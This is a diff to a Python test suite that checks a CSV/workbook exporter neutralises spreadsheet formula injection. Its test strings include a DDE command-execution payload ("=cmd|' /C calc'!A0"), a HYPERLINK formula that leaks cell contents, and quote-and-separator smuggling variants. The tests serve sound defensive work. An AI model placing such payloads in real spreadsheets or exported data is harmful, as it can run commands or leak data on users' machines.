@@ -7,6 +7,7 @@ import io
 import re
 from collections.abc import Callable
 from datetime import date
+from itertools import product
 from pathlib import Path
 from typing import Any
 
@@ -25,7 +26,7 @@ from server.records.database import open_database, writing
 from server.records.tables import programs, staff
 from tests.support.command import caseload_server
 from workbook.columns import RELATIONSHIP, STATUS, TemplateChoice, template_headers
-from workbook.layout import FORMULA_SIGNS
+from workbook.layout import FORMULA_SIGNS, no_formula
 from workbook.lists import ListedProgram, ListedStaff, TemplateLists
 from workbook.report import RememberedFix, Report
 from workbook.sheets.fix_sheet import lay_out_fixes
@@ -40,6 +41,7 @@ from workbook.upload_state import UploadState
 TEXTS = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
     '=HYPERLINK("http://example.test?"&A1)', "=cmd|' /C calc'!A0",
+    'A;"=1+1;B', '"=1+1', 'A\t"" "@SUM(A1)',
     "A;=cmd|' /C calc'!A0", 'A, "B"; +1+1', "A\t@SUM(A1)", "A\n=1+1", 'A, "\n-1+1',
 )  # fmt: skip
 
@@ -51,10 +53,11 @@ Cells = list[tuple[Any, bool]]
 
 
 def of_csv(content: bytes) -> Cells:
-    """As it is read with the comma, the semicolon and the tab: which of them separates is the reader's setting."""
+    """As it is read with the comma, the semicolon and the tab: which of them separates is the reader's setting. Some
+    readers drop further quotation marks at the beginning of a cell."""
     text = content.decode("utf-8-sig")
     cells = [cell for mark in ",;\t" for line in csv.reader(io.StringIO(text, None), delimiter=mark) for cell in line]
-    return [(cell, not cell.lstrip(" ").startswith(FORMULA_SIGNS)) for cell in cells]
+    return [(cell, not cell.lstrip(' "').startswith(FORMULA_SIGNS)) for cell in cells]
 
 
 def of_workbook(content: bytes | Path) -> Cells:
@@ -120,6 +123,15 @@ def test_no_file_holds_a_text_that_a_spreadsheet_runs(writer: str, tmp_path: Pat
         assert [cell for cell, harmless in cells if not harmless] == []
         letters = re.sub(r"[^0-9A-Za-z]", "", text)
         assert any(letters in re.sub(r"[^0-9A-Za-z]", "", str(cell)) for cell, _ in cells), "and it is there still"
+
+
+def test_no_text_of_separators_and_quotation_marks_becomes_a_formula_wherever_it_is_cut() -> None:
+    found = []
+    for letters in product('=";\t\n x', repeat=4):
+        text, file = "".join(letters), io.StringIO()
+        csv.writer(file).writerow([no_formula(cell) for cell in ("2", text, "z")])
+        found += [(text, cell) for cell, harmless in of_csv(file.getvalue().encode()) if cell.strip() and not harmless]
+    assert found == []
 
 
 def test_sample_rows_of_a_site_with_such_names_hold_none_either(tmp_path: Path) -> None:
